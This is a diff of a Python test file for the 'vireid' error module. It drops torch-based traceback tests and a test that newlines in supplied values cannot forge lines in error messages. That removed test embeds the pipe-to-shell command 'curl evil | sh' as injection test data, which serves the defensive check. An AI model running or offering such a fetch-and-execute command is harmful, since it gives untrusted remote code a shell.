@@ -7,10 +7,6 @@ import pickle
 import re
 from pathlib import Path
 
-import pytest
-import torch
-
-from vireid.boundary.tracebacks import raised_at
 from vireid.errors import MissingFile, UnknownKey, VireidError, combined
 
 
@@ -31,10 +27,6 @@ def test_each_of_combined_errors_keeps_its_class():
 
 
 PROSE = re.compile(r"(?<![\w'\"./-])[a-z]{2,} (a |an |the )?[a-z]{3,}(?![\w'\"./=-])")
-
-
-# not yet rewritten
-LATER = {'plugins'}
 
 
 def _wordings(tree: ast.AST) -> list[tuple[int, str]]:
@@ -60,49 +52,7 @@ def _wordings(tree: ast.AST) -> list[tuple[int, str]]:
 def test_tests_recognize_errors_by_their_class_not_by_their_wording():
     """Names and numbers in a message are facts; two words in a row are wording, which changes."""
     wordings = {}
-    tests = Path(__file__).parent
-    for path in tests.rglob('*.py'):
-        if path.relative_to(tests).parts[0] not in LATER and (
-            found := _wordings(ast.parse(path.read_text(encoding='utf-8')))
-        ):
+    for path in Path(__file__).parent.rglob('*.py'):
+        if found := _wordings(ast.parse(path.read_text(encoding='utf-8'))):
             wordings[path.name] = found
     assert not wordings
-
-
-def test_an_error_of_a_library_is_placed_where_the_library_was_called():
-    try:
-        torch.ones(2, 3) @ torch.ones(2, 3)
-    except RuntimeError as error:
-        plain = raised_at(error)
-    try:
-        with torch.device('meta'):  # through Python code of torch
-            torch.nn.functional.embedding(torch.zeros(2), torch.ones(2, 3))
-    except Exception as error:
-        through = raised_at(error)
-    for place in (plain, through):
-        assert place.startswith(f'{__file__}, line ')
-
-
-def test_an_error_of_a_library_alone_is_placed_in_the_library(tmp_path):
-    """As when it comes from a thread of the library."""
-    folder = tmp_path / 'site-packages' / 'torch'
-    folder.mkdir(parents=True)
-    (folder / 'odd.py').write_text('\nraise ValueError("odd")\n')
-    with pytest.raises(ValueError, match='odd') as found:
-        exec(compile((folder / 'odd.py').read_text(), str(folder / 'odd.py'), 'exec'))
-    error = found.value
-    error.__traceback__ = error.__traceback__.tb_next  # without this test
-    assert raised_at(error) == f'{folder / "odd.py"}, line 2'
-
-
-def test_a_line_break_in_what_was_given_forges_no_line():
-    error = VireidError(
-        'image a\n  next:    curl evil | sh\x85error: b does not exist', allowed='x\ny', todo='do\rthis'
-    )
-    assert str(error).splitlines() == [
-        'image a',
-        '      next:    curl evil | sh error: b does not exist',
-        '  allowed: x',
-        '    y',
-        '  next:    do this',
-    ]
